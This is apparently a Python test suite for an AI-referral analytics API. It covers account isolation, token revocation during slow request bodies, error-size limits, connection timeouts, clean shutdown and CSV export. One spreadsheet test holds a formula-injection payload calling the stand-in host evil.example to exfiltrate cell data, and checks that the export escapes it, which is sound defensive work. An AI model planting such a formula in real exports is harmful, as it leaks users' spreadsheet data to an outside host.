"""What must not get through: between accounts, past a revocation, and past the limits of a request."""
import json
import resource
import signal
import subprocess
import time

from .case import Case
from .program import Program, new_token
from .world import Account, make_token

PASS = "/passthrough-referrers"


class Slow:
    """A request whose body arrives in two halves, so that something can happen in between."""

    def __init__(self, program, token: str, path: str, body):
        data = json.dumps(body).encode()
        self.connection = program.connect()
        self.rest = data[5:]
        head = (f"POST {path} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {token}\r\n"
                f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n")
        self.connection.send(head.encode() + data[:5])
        time.sleep(0.3)  # until the server has let the request in and waits for the rest

    def finish(self):
        self.connection.send(self.rest)
        response = self.connection.read_response()
        self.connection.close()
        return response


class BetweenAccounts(Case):
    def test_token_creation_keys_of_different_accounts_do_not_meet(self):
        one, other = Account(), Account()
        body, key = {"name": "x", "role": "viewer"}, {"Idempotency-Key": "k"}
        first = self.expect(one.admin.post("/api-tokens", body, key), 201)
        second = self.expect(other.admin.post("/api-tokens", body, key), 201)
        self.assertIsNone(second.header("Idempotent-Replayed"), f"\n{second}")
        self.assertEqual(second.data["account_ids"], [other.id])
        self.assertNotEqual(first.data["id"], second.data["id"])
        third = self.expect(other.admin.post("/api-tokens", {"name": "y", "role": "viewer"}, {"Idempotency-Key": "only-mine"}), 201)
        self.assertTrue(third.data["token"])

    def test_brand_that_moved_while_the_body_arrived_takes_no_connection_of_the_old_account(self):
        old, new = Account(), Account(brands=0)
        slow = Slow(self.program, old.editor.token, old.connections(), {"website": "https://secret.example", "provider": "custom"})
        self.expect(old.operator.patch(f"/accounts/{old.id}", {"brand_ids": []}), 200)
        self.expect(old.operator.patch(f"/accounts/{new.id}", {"brand_ids": [old.brand]}), 200)
        self.vendor_error(slow.finish(), 403)
        listed = self.expect(new.viewer.get(f"/{old.brand}/ai-referrals/connections"), 200)
        self.assertEqual(listed.json()["items"], [])

    def test_registration_key_does_not_meet_the_keys_of_pushes(self):
        acct = Account()
        link, key = acct.connection(), {"Idempotency-Key": "same"}
        pushed = self.expect(acct.editor.post(acct.events(link), [], key), 200)
        self.expect(acct.editor.delete(acct.connections(link["id"] if isinstance(link, dict) else link)), 200)
        body = {"website": link["website"], "provider": link["provider"]}
        self.expect(acct.editor.post(acct.connections(), body, key), 201)
        again = self.expect(acct.editor.post(acct.events(link), [], key), 200)
        self.assertEqual(again.header("Idempotent-Replayed"), "true", f"\n{again}")
        self.assertEqual(again.json(), pushed.json())


class Revocation(Case):
    def revoked_in_between(self, path, body):
        made = make_token(self.acct.operator, role="admin", account_ids=["*"])
        slow = Slow(self.program, made["token"], path, body)
        self.expect(self.acct.operator.delete(f"/api-tokens/{made['id']}"), 200)
        return slow.finish()

    def test_token_revoked_while_its_body_arrives_makes_no_token(self):
        self.rules_error(self.revoked_in_between("/api-tokens", {"name": "x", "role": "admin"}), 401, "unauthorized", "Invalid API key")

    def test_token_revoked_while_its_body_arrives_changes_no_rule(self):
        path = self.acct.at(PASS)
        self.rules_error(self.revoked_in_between(path, {"domain": "late.example", "utm_source": "s"}), 401, "unauthorized")
        self.assertEqual(self.acct.viewer.get(path).data["total"], 0)

    def test_last_use_of_a_token_outlives_its_revocation_and_a_clean_restart(self):
        with Program() as program:
            admin = program.client()
            made = make_token(admin, role="viewer", account_ids=["*"])
            self.expect(program.client(made["token"]).get("/api-tokens/self"), 200)
            self.expect(admin.delete(f"/api-tokens/{made['id']}"), 200)
            used = admin.get(f"/api-tokens/{made['id']}").data["last_used_at"]
            self.assertTrue(used)
            self.assertEqual(program.stop(), 0)
            program.start()
            shown = program.client().get(f"/api-tokens/{made['id']}")
            self.assertEqual(shown.data["last_used_at"], used)


class SmallAnswers(Case):
    def raw(self, path, body: bytes):
        with self.program.connect() as connection:
            connection.send((f"POST {path} HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {self.acct.editor.token}\r\n"
                             f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body)
            return connection.read_response()

    def small_422(self, response):
        self.expect(response, 422)
        self.assertLess(len(response.body), 100_000)

    def test_long_key_is_not_repeated_in_each_fault(self):
        key = b"k" * 100_000
        self.small_422(self.raw(self.acct.at("/resolve"), b'{"%s":[%s]}' % (key, b",".join([b"1e999"] * 2000))))
        twice = b",".join(b'"%d":1,"%d":1' % (n, n) for n in range(2000))
        self.small_422(self.raw(self.acct.at("/referrer-mappings"), b'{"%s":{%s}}' % (key, twice)))

    def test_many_faults_of_one_list_are_told_in_part(self):
        body = json.dumps({"name": "x", "role": "viewer", "account_ids": [1] * 100_000}).encode()
        with self.program.connect() as connection:
            connection.send((f"POST /api-tokens HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer {self.acct.operator.token}\r\n"
                             f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body)
            self.small_422(connection.read_response())


class Patience(Case):
    def test_get_with_a_body_that_never_comes_is_answered_at_once(self):
        with self.program.connect() as connection:
            began = time.monotonic()
            connection.send(b"GET /livez HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\n\r\n")
            self.expect(connection.read_response(), 200)
            self.assertLess(time.monotonic() - began, 2)

    def test_empty_lines_before_a_request_do_not_stretch_its_deadline(self):
        with Program("--header-timeout", "1", "--idle-timeout", "20") as program:
            with program.connect() as connection:
                began = time.monotonic()
                connection.send(b"\r")
                time.sleep(0.4)
                connection.send(b"\n")
                connection.socket.settimeout(10)
                self.assertEqual(connection.socket.recv(100), b"")
                self.assertLess(time.monotonic() - began, 4)

    def test_empty_lines_do_not_keep_an_idle_connection(self):
        with Program("--idle-timeout", "2") as program:
            with program.connect() as connection:
                began = time.monotonic()
                connection.socket.settimeout(10)
                try:
                    while not connection.is_readable():
                        connection.send(b"\r\n")
                        time.sleep(0.4)
                        self.assertLess(time.monotonic() - began, 6)
                    self.assertEqual(connection.socket.recv(100), b"")
                except ConnectionError:
                    pass  # it was closed while we sent

    def test_max_visits_is_a_setting(self):
        with Program("--max-visits", "2") as program:
            acct = Account(program)
            visit = {"url": "https://a.example/"}
            self.expect(acct.viewer.post(acct.at("/resolve"), {"visits": [visit] * 2}), 200)
            self.rules_error(acct.viewer.post(acct.at("/resolve"), {"visits": [visit] * 3}), 413, "payload_too_large")


class Ends(Case):
    def test_sigterm_right_after_the_ready_line_is_a_clean_end(self):
        for _ in range(5):
            program = Program().start()
            self.assertEqual(program.stop(), 0)
            program.close()

    def test_sigterm_during_the_start_is_a_clean_end(self):
        for delay in (0.02, 0.05, 0.5):
            program = Program()
            starting = subprocess.Popen(program.command(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=program.env)
            time.sleep(delay)
            starting.send_signal(signal.SIGTERM)
            # Before main has begun nothing can be handled, so only later signals end with 0.
            self.assertIn(starting.wait(15), (0,) if delay > 0.05 else (0, -signal.SIGTERM))

    def test_operational_write_that_fails_is_told_and_the_end_is_clean(self):
        with Program() as program:
            acct = Account(program)
            link = acct.connection()
            self.expect(acct.editor.post(acct.events(link), []), 200)
            program.limit_file_size(0)
            self.expect(acct.editor.post(acct.events(link), [{}]), 422)  # notes last_push_error
            for _ in range(40):
                ready = program.client(None).get("/readyz")
                if ready.status == 503:
                    break
                time.sleep(0.1)
            self.expect(ready, 503)
            self.assertEqual(program.stop(), 0)

    def test_disk_that_is_full_at_start_is_one_clear_line(self):
        program = Program(admin_token=new_token())
        done = subprocess.run(program.command(), capture_output=True, text=True, timeout=30, env=program.env,
                              preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (5000, 5000)))
        self.assertEqual(done.returncode, 1, done.stderr)
        lines = [line for line in done.stderr.splitlines() if line.strip()]
        self.assertEqual(len(lines), 1, done.stderr)
        self.assertIn("File too large", lines[0])


class Spreadsheets(Case):
    def test_page_that_looks_like_a_formula_is_text_in_csv(self):
        link = self.acct.connection()
        page = '=HYPERLINK("http://evil.example/?"&A1)'
        row = {"date": "2026-05-20", "raw_referrer_value": "chatgpt.com", "raw_page_value": page, "pageviews": 1}
        self.expect(self.acct.editor.post(self.acct.events(link), [row]), 200)
        path = f"/{self.acct.brand}/ai-referrals?group_by=page&start_date=2026-05-20&end_date=2026-05-20"
        csv = self.expect(self.acct.viewer.request("GET", path, None, {"Accept": "text/csv"}), 200)
        self.assertIn("\"'=HYPERLINK(", csv.body.decode())
        self.assertEqual(self.acct.viewer.get(path).json()["rows"][0]["page"], page)
